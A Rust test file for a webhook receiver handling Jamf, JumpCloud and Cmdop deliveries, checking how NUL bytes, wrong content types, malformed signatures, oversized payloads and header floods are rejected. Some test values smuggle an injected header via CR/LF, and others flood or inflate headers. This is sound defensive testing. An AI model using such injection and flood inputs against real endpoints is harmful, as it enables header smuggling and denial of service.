        case("raw NUL in a string", Entry::Receive(Source::Jamf), jamf("mbp-akiko", b"mbp\0akiko"), "Err(400 Invalid/Jamf::Json: jamf body rejected at `$.event.computer.deviceName` (line 1, column 128): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jamf),
        case("raw NUL in text, text/xml", Entry::Receive(Source::Jamf), jamf_xml("mbp-akiko", b"mbp\0akiko"), "Err(400 Invalid/Jamf::XmlStructure: jamf body rejected at `/` (line 1, column 342): invalid XML)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", "text/xml"),
        case("raw NUL in a string", Entry::Receive(Source::Jumpcloud), replace(ALERT, "Critical", b"Crit\0ical"), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$.priority` (line 1, column 108): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
        case("NUL body, signed", Entry::Receive(Source::Cmdop), vec![0; 1024], "Err(400 Invalid/Cmdop::Json: cmdop body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Cmdop),
        case("NUL body, signed", Entry::ReceiveAny, vec![0; 1024], "Err(400 Invalid/Cmdop::Json: cmdop body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Cmdop),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 9. Content types.

#[test]
fn wrong_content_types_are_refused_415() {
    let jamf_with = |name: &str, ct: &[u8], expect: &str| {
        case(name, Entry::Receive(Source::Jamf), JAMF, expect)
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", ct)
    };
    let never =
        |ct: &str| format!("Err(415 UnsupportedMediaType: jamf webhooks are never sent as `{ct}`)");
    let accepted = "Ok(jamf ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)";
    let long_type = [b"application/".as_slice(), &big(10_000)].concat();
    check(&[
        jamf_with("text/plain", b"text/plain", &never("text/plain")),
        jamf_with("a form", b"application/x-www-form-urlencoded", &never("application/x-www-form-urlencoded")),
        jamf_with("multipart", b"multipart/form-data; boundary=----x", &never("multipart/form-data; boundary=----x")),
        jamf_with("JSON with a charset", b"application/json; charset=utf-8", accepted),
        jamf_with("JSON in capitals", b"APPLICATION/JSON", accepted),
        jamf_with("a +json type", b"application/vnd.jamf+json", accepted),
        jamf_with("XML declared, JSON sent", b"text/xml", "Err(400 Invalid/Jamf::XmlStructure: jamf body rejected at `/` (line 1, column 1): invalid XML)"),
        // Echoed for the log as far as it can be read: never a byte the body sent.
        jamf_with("obs-text bytes in the type", b"text/pl\xE9in", &never("text/pl\u{FFFD}in")),
        jamf_with("an empty type: the body decides", b"", accepted),
        jamf_with("a 10,000-byte type", &long_type, &never(std::str::from_utf8(&long_type).unwrap())),
        jamf_with("gzip", b"application/json", &never("Content-Encoding: gzip")).header("content-encoding", "gzip"),
        jamf_with("identity encoding", b"application/json", accepted).header("content-encoding", "identity"),
        case("JSON declared, XML sent", Entry::Receive(Source::Jamf), JAMF_XML, "Err(400 Invalid/Jamf::Json: jamf body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", "application/json"),
        case("text/xml", Entry::Receive(Source::Jumpcloud), ALERT, "Err(415 UnsupportedMediaType: jumpcloud webhooks are never sent as `text/xml`)")
            .header("authorization", format!("Bearer {JC_TOKEN}"))
            .header("content-type", "text/xml"),
        case("text/plain, signed", Entry::Receive(Source::Cmdop), CMDOP, "Err(415 UnsupportedMediaType: cmdop webhooks are never sent as `text/plain`)")
            .header("x-cmdop-signature", signature_of(CMDOP.as_bytes()))
            .header("content-type", "text/plain"),
        case("a form, unauthenticated: 401 first", Entry::Receive(Source::Cmdop), CMDOP, "Err(401 Unauthenticated/MissingHeader: cmdop delivery not authenticated: missing header `x-cmdop-signature`)")
            .header("content-type", "application/x-www-form-urlencoded"),
        case("text/plain, signed", Entry::ReceiveAny, CMDOP, "Err(415 UnsupportedMediaType: cmdop webhooks are never sent as `text/plain`)")
            .header("x-cmdop-signature", signature_of(CMDOP.as_bytes()))
            .header("content-type", "text/plain"),
        case("text/plain", Entry::JamfBody(Some("text/plain")), JAMF, "Err(UnsupportedContentType: unsupported content type `text/plain`: expected application/json, application/xml or text/xml)"),
        case("blank", Entry::JamfBody(Some("  ")), JAMF_XML, "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        case("XML declared, JSON sent", Entry::JamfBody(Some("application/xml")), JAMF, "Err(XmlStructure: malformed XML at `/` (line 1, column 1): text outside the root element)"),
        case("JSON declared, XML sent", Entry::JamfBody(Some("application/json")), JAMF_XML, "Err(Json: invalid JSON at `$` (line 1, column 1): expected value)"),
        case("neither JSON nor XML", Entry::JamfSlice, "webhookEvent=ComputerCheckIn", "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: `w`))"),
        case("empty", Entry::JamfSlice, "", "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: none, the body is empty))"),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 10. Headers: CR/LF, bytes past ASCII, floods, huge and repeated values.

#[test]
fn cr_lf_cannot_reach_an_entry_point_inside_a_header_value() {
    // `http` refuses to build such a value, so no entry point can be handed one: HTTP/1.1
    // framing ends a header at CR LF, and a server answers 400 to a bare CR (see the serve
    // tests).
    for value in [
        &b"Bearer jc_9f3b2c7d41e8a6b5\r\nX-Injected: 1"[..],
        b"Bearer jc_9f3b2c7d41e8a6b5\n",
        b"Bearer \rjc_9f3b2c7d41e8a6b5",
        b"sha256=\0",
    ] {
        assert!(HeaderValue::from_bytes(value).is_err(), "{value:?}");
    }
    let hex = signature_of(CMDOP.as_bytes());
    check(&[
        // A signature copied with its line end is still the signature (surrounding blanks).
        case(
            "a trailing CR LF",
            Entry::SignatureParse,
            format!("{hex}\r\n"),
            "Ok(sha256=b5305c1a0da151abca67573b4a3db699e099f209d4f54cdb1bd82c6a5a6e3686)",
        )
        .bound(NOTHING),
        case(
            "CR LF inside the digest",
            Entry::SignatureParse,
            format!("{}\r\n{}", &hex[..20], &hex[20..]),
            r#"Err(InvalidHex: signature digest is not hex: unexpected '\r' at offset 13)"#,
        )
        .bound(NOTHING),
        case(
            "a header injected after the digest",
            Entry::SignatureParse,
            format!("{hex}\r\nX-Injected: 1"),
            r#"Err(InvalidHex: signature digest is not hex: unexpected '\r' at offset 64)"#,
        )
        .bound(NOTHING),
    ]);
}

#[test]
fn header_floods_and_huge_values_get_their_documented_answer() {
    let many = |mut c: Case, name: &str, n: usize, value: &str| {
        for i in 0..n {
            let header = if name.is_empty() {
                format!("x-flood-{i}")
            } else {
                name.to_owned()
            };
            c = c.header(&header, value);
        }
        c
    };
    let megabyte = |prefix: &str| [prefix.as_bytes(), &big(MIB)].concat();
    check(&[
        many(case("10,000 other headers", Entry::Receive(Source::Jumpcloud), ALERT, "Ok(jumpcloud alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)").signed_as(Source::Jumpcloud), "", 10_000, "flood"),
        many(case("10,000 Authorization headers", Entry::Token, "", "Err(DuplicateHeader: header `authorization` appears more than once)"), "authorization", 10_000, "Bearer jc_9f3b2c7d41e8a6b5").bound(SMALL),
        many(case("10,000 Authorization headers", Entry::Basic, "", "Err(DuplicateHeader: header `authorization` appears more than once)"), "authorization", 10_000, &basic(JAMF_USER, JAMF_PASS)).bound(SMALL),
        many(case("10,000 x-fleet-key headers", Entry::SharedHeader, "", "Err(DuplicateHeader: header `x-fleet-key` appears more than once)"), "x-fleet-key", 10_000, FLEET_KEY).bound(SMALL),
        many(case("10,000 signature headers", Entry::SignatureVerify, CMDOP, "Err(DuplicateHeader: header `x-cmdop-signature` appears more than once)"), "x-cmdop-signature", 10_000, &signature_of(CMDOP.as_bytes())).bound(SMALL),
        many(case("10,000 signature headers", Entry::Receive(Source::Cmdop), CMDOP, "Err(401 Unauthenticated/DuplicateHeader: cmdop delivery not authenticated: header `x-cmdop-signature` appears more than once)"), "x-cmdop-signature", 10_000, &signature_of(CMDOP.as_bytes())),
        case("a 1 MiB bearer token", Entry::Token, "", "Err(CredentialMismatch: credentials in header `authorization` were not accepted)").header("authorization", megabyte("Bearer ")).bound(SMALL),
        case("a 1 MiB bare token", Entry::Token, "", "Err(CredentialMismatch: credentials in header `authorization` were not accepted)").header("authorization", big(MIB)).bound(SMALL),
        case("1 MiB of base64 credentials", Entry::Basic, "", "Err(MalformedHeader: malformed header `authorization`: decoded credentials have no `:` between user and password)").header("authorization", megabyte("Basic ")),
        case("1 MiB that is not base64", Entry::Basic, "", "Err(MalformedHeader: malformed header `authorization`: credentials are not valid base64)").header("authorization", megabyte("Basic *")),
        case("a 1 MiB shared header", Entry::SharedHeader, "", "Err(CredentialMismatch: credentials in header `x-fleet-key` were not accepted)").header("x-fleet-key", big(MIB)).bound(SMALL),
        case("a 1 MiB signature header", Entry::SignatureVerify, CMDOP, "Err(InvalidHex: signature digest is not hex: unexpected 'x' at offset 0)").header("x-cmdop-signature", megabyte("sha256=")).bound(SMALL),
        case("a 1 MiB Authorization to Jamf", Entry::Receive(Source::Jamf), JAMF, "Err(401 Unauthenticated/MalformedHeader: jamf delivery not authenticated: malformed header `authorization`: decoded credentials have no `:` between user and password)").header("authorization", megabyte("Basic ")).header("content-type", "application/json"),
        case("bytes past ASCII in a token", Entry::Token, "", "Err(CredentialMismatch: credentials in header `authorization` were not accepted)").header("authorization", b"Bearer jc_9f3b\xE92c7d".to_vec()).bound(SMALL),
        case("bytes past ASCII in Basic", Entry::Basic, "", "Err(MalformedHeader: malformed header `authorization`: credentials are not valid base64)").header("authorization", b"Basic \xE9\xE9".to_vec()).bound(SMALL),
        case("bytes past ASCII in base64-decoded Basic", Entry::Basic, "", "Err(CredentialMismatch: credentials in header `authorization` were not accepted)").header("authorization", basic("jamf-h\u{e9}oks", "\u{0}\u{ff}")).bound(SMALL),
        case("bytes past ASCII in a signature", Entry::SignatureParse, b"sha256=\xE9".to_vec(), "Err(InvalidHex: signature digest is not hex: unexpected '�' at offset 0)").bound(NOTHING),
        case("two Authorization headers, one right", Entry::Receive(Source::Jumpcloud), ALERT, "Err(401 Unauthenticated/DuplicateHeader: jumpcloud delivery not authenticated: header `authorization` appears more than once)")
            .header("authorization", format!("Bearer {JC_TOKEN}"))
            .header("authorization", "Bearer forged"),
        case("two signatures, one right", Entry::CmdopReceive, CMDOP, "Err(Signature: signature rejected: header `x-cmdop-signature` appears more than once)")
            .header("x-cmdop-signature", signature_of(CMDOP.as_bytes()))
            .header("x-cmdop-signature", signature_of(b"{}")),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 11. Signatures.

#[test]
fn malformed_signatures_get_their_documented_answer() {
    let hex = "a".repeat(10_000);
    let body = CMDOP.as_bytes().to_vec();
    check(&[
        case("sha256= with 10,000 hex digits", Entry::SignatureParse, format!("sha256={hex}"), "Err(InvalidLength: signature digest has 10000 hex digits; SHA-256 needs 64)").bound(NOTHING),
        case("sha256= with 10,000 hex digits and a `g`", Entry::SignatureParse, format!("sha256={hex}g"), "Err(InvalidHex: signature digest is not hex: unexpected 'g' at offset 10000)").bound(NOTHING),
        case("sha256= with 63 hex digits", Entry::SignatureParse, format!("sha256={}", &hex[..63]), "Err(InvalidLength: signature digest has 63 hex digits; SHA-256 needs 64)").bound(NOTHING),
        case("sha256= alone", Entry::SignatureParse, "sha256=", "Err(InvalidLength: signature digest has 0 hex digits; SHA-256 needs 64)").bound(NOTHING),
        case("10,000 hex digits, no prefix", Entry::SignatureParse, hex.clone(), "Err(MissingAlgorithm: signature has no algorithm prefix; expected `sha256=<hex>`)").bound(NOTHING),
        case("a 10,000-letter algorithm", Entry::SignatureParse, format!("{}={}", "a".repeat(10_000), &hex[..64]), "Err(UnsupportedAlgorithm: unsupported signature algorithm `aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`; expected `sha256`)").bound(SMALL),
        case("sha1=", Entry::SignatureParse, format!("sha1={}", &hex[..40]), "Err(UnsupportedAlgorithm: unsupported signature algorithm `sha1`; expected `sha256`)").bound(SMALL),
        case("=, then 64 digits", Entry::SignatureParse, format!("={}", &hex[..64]), "Err(MissingAlgorithm: signature has no algorithm prefix; expected `sha256=<hex>`)").bound(NOTHING),
        case("SHA256= in capitals, upper-case hex", Entry::SignatureParse, signature_of(CMDOP.as_bytes()).to_uppercase(), "Ok(sha256=b5305c1a0da151abca67573b4a3db699e099f209d4f54cdb1bd82c6a5a6e3686)").bound(NOTHING),
        case("sha256= with 10,000 hex digits", Entry::SignatureVerify, body.clone(), "Err(InvalidLength: signature digest has 10000 hex digits; SHA-256 needs 64)")
            .header("x-cmdop-signature", format!("sha256={hex}"))
            .bound(SMALL),
        case("sha256= with 10,000 hex digits", Entry::CmdopReceive, body.clone(), "Err(Signature: signature rejected: signature digest has 10000 hex digits; SHA-256 needs 64)")
            .header("x-cmdop-signature", format!("sha256={hex}"))
            .bound(SMALL),
        case("sha256= with 10,000 hex digits", Entry::Receive(Source::Cmdop), body.clone(), "Err(401 Unauthenticated/InvalidLength: cmdop delivery not authenticated: signature digest has 10000 hex digits; SHA-256 needs 64)")
            .header("x-cmdop-signature", format!("sha256={hex}")),
        case("sha256= with 10,000 hex digits", Entry::ReceiveAny, body.clone(), "Err(401 Unauthenticated/InvalidLength: cmdop delivery not authenticated: signature digest has 10000 hex digits; SHA-256 needs 64)")
            .header("x-cmdop-signature", format!("sha256={hex}")),
        case("the right signature with a BOM added to the body", Entry::SignatureVerify, [b"\xEF\xBB\xBF".as_slice(), &body].concat(), "Err(SignatureMismatch: signature does not match the body)")
            .header("x-cmdop-signature", signature_of(&body))
            .bound(SMALL),
        case("no signature", Entry::CmdopReceive, body.clone(), "Err(MissingSignature: missing header `x-cmdop-signature`; the webhook may have been created without a secret)").bound(SMALL),
        case("the right signature", Entry::CmdopReceive, body.clone(), "Ok(machine.offline evt_01JD4R8Q2ZK7)")
            .header("x-cmdop-signature", signature_of(&body)),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 12. Many small values: what is kept as generic JSON or as an XML tree costs most per byte.

#[test]
fn many_small_values_stay_within_their_bound() {
    // 100,000 two-byte items, `0,`: each a 32-byte `serde_json::Value` where it is kept.
    let zeros = |n: usize| format!("[{}0]", "0,".repeat(n));
    // 50,000 four-byte elements, `<a/>`: each a 72-byte tree node, then a value where kept.
    let elements = |n: usize| "<a/>".repeat(n);
    let keys = |n: usize| (0..n).map(|i| format!("\"k{i}\":0,")).collect::<String>();
    let unknown_json = format!(
        r#"{{"webhook":{{"webhookEvent":"ComputerRenamed"}},"event":{{"computer":{}}}}}"#,
        zeros(100_000)
    );
    let unknown_xml = format!(
        "<JSSEvent><webhook><webhookEvent>ComputerRenamed</webhookEvent></webhook><event>{}</event></JSSEvent>",
        elements(50_000)
    );
    let renamed = "Ok(ComputerRenamed -:ComputerRenamed:-:-)";
    let check_in = "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)";
    let member = |template: &str, at: &str, value: &str| {
        replace(template, at, format!("\"x\":{value},{at}").as_bytes())
    };
    check(&[
        case("an unknown event of 100,000 numbers (kept raw, checked)", Entry::JamfJson, unknown_json.clone(), renamed).bound(VALUE),
        case("an undocumented member of 100,000 numbers", Entry::JamfJson, member(JAMF, "\"trigger\"", &zeros(100_000)), check_in).bound(VALUE),
        case("an unknown event of 50,000 elements", Entry::JamfXml, unknown_xml.clone(), renamed).bound(VALUE),
        case("an undocumented member of 50,000 elements", Entry::JamfXml, jamf_xml("<trigger>", format!("<x>{}</x><trigger>", elements(50_000)).as_bytes()), check_in).bound(VALUE),
        case("an undocumented member of 100,000 numbers", Entry::Alert, member(ALERT, "\"priority\"", &zeros(100_000)), "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)").bound(VALUE),
        case("di_event of 100,000 numbers (kept as text)", Entry::Alert, replace(ALERT, "\"priority\"", format!("\"di_event\":{},\"priority\"", zeros(100_000)).as_bytes()), "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)"),
        case("20,000 undocumented members", Entry::Alert, replace(ALERT, "\"priority\"", format!("{}\"priority\"", keys(20_000)).as_bytes()), "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)").bound(VALUE),
        case("a value of 100,000 numbers: [object Object]", Entry::Flatten, replace(TRIGGER, "8443", zeros(100_000).as_bytes()), "Ok(srcip=203.0.113.7, port=[object Object], host=web-03.acme.example)"),
        case("20,000 keys (indexed past 32)", Entry::Flatten, format!("{{{}\"z\":1}}", keys(20_000)), "Ok(<20001 variables>)").bound(VALUE),
        case("60,000 empty names", Entry::TriggerResponse, format!(r#"{{"triggered":[{}""]}}"#, "\"\",".repeat(60_000)), "Ok(<60001 names>)").bound(VALUE),
        case("an unknown type whose data is 100,000 numbers", Entry::CmdopEvent, format!(r#"{{"id":"evt_01JD4R8Q2ZK7","type":"machine.renamed","timestamp":"2026-11-20T09:14:03Z","data":{{"x":{}}}}}"#, zeros(100_000)), "Ok(machine.renamed evt_01JD4R8Q2ZK7)").bound(VALUE),
        case("an undocumented member of 100,000 numbers", Entry::CmdopEvent, member(CMDOP, "\"machine_id\"", &zeros(100_000)), "Ok(machine.offline evt_01JD4R8Q2ZK7)").bound(VALUE),
        case("an unknown event of 60,000 elements, no content type", Entry::Receive(Source::Jamf), format!("<JSSEvent><webhook><webhookEvent>ComputerRenamed</webhookEvent></webhook><event>{}</event></JSSEvent>", elements(60_000)), "Ok(jamf ComputerRenamed -:ComputerRenamed:-:-)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .bound(VALUE),
        case("an unknown event of 120,000 numbers", Entry::Receive(Source::Jamf), format!(r#"{{"webhook":{{"webhookEvent":"ComputerRenamed"}},"event":{{"x":{}}}}}"#, zeros(120_000)), "Ok(jamf ComputerRenamed -:ComputerRenamed:-:-)")
            .signed_as(Source::Jamf)
            .bound(VALUE),
        case("an undocumented member of 120,000 numbers", Entry::Receive(Source::Jumpcloud), member(ALERT, "\"priority\"", &zeros(120_000)), "Ok(jumpcloud alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)")
            .signed_as(Source::Jumpcloud)
            .bound(VALUE),
    ]);
}
